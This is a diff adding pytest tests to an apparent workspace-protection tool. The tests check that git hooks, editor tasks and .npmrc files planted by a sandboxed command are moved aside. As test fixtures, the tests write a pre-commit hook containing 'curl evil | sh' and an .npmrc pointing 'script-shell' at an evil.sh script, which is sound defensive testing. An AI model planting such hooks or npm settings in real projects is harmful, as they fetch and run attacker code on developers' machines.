@@ -168,6 +168,45 @@ def test_creating_a_missing_protected_path_is_reported(run: Runner, ws: Path) ->
     assert any(".vscode" in f and "created" in f for f in result.findings)
 
 
+def test_more_entries_than_the_scan_budget_do_not_skip_the_after_run_check(
+    run: Runner, ws: Path
+) -> None:
+    # The after-run check gave up past `scan_max_entries` (a finding, "review the
+    # workspace") and left the planted hook and editor task in place.
+    result = run(
+        "mkdir -p .git/hooks .vscode && echo 'curl evil | sh' > .git/hooks/pre-commit && "
+        "echo '{}' > .vscode/tasks.json && mkdir many && cd many && "
+        "for i in $(seq 400); do : > f$i; done; echo done",
+        scan_max_entries=300,
+        read_roots=(),
+    )
+    assert result.stdout == b"done\n"
+    assert not (ws / ".git").exists() and not (ws / ".vscode").exists()
+    assert (ws / ".git.safehold-blocked" / "hooks" / "pre-commit").exists()
+    assert (ws / ".vscode.safehold-blocked" / "tasks.json").exists()
+    assert not any("failed" in f for f in result.findings)
+
+
+def test_a_created_npmrc_is_moved_aside_and_an_existing_one_stays_masked(
+    run: Runner, ws: Path
+) -> None:
+    # `.npmrc` was denied only: masked when it existed, but a new one the command wrote
+    # stayed, and the host's next `npm run` started its `script-shell`.
+    result = run(
+        "echo script-shell=./evil.sh > .npmrc; mkdir -p app && "
+        "ln -s ../evil.ini app/.npmrc; echo done",
+        read_roots=(),
+    )
+    assert result.stdout == b"done\n"
+    assert not (ws / ".npmrc").exists() and not (ws / "app" / ".npmrc").is_symlink()
+    assert (ws / ".npmrc.safehold-blocked").read_text() == "script-shell=./evil.sh\n"
+    assert (ws / "app" / ".npmrc.safehold-blocked").is_symlink()
+    (ws / ".npmrc").write_text("//registry/:_authToken=NPM-TOKEN\n")
+    again = run("cat .npmrc; echo x > .npmrc; echo done", read_roots=())
+    assert again.stdout == b"done\n" and again.findings == ()
+    assert (ws / ".npmrc").read_text() == "//registry/:_authToken=NPM-TOKEN\n"
+
+
 def test_symlinked_protected_path_pins_its_target_and_reports_a_swap(run: Runner, ws: Path) -> None:
     real = ws / "editor-config"
     real.mkdir()
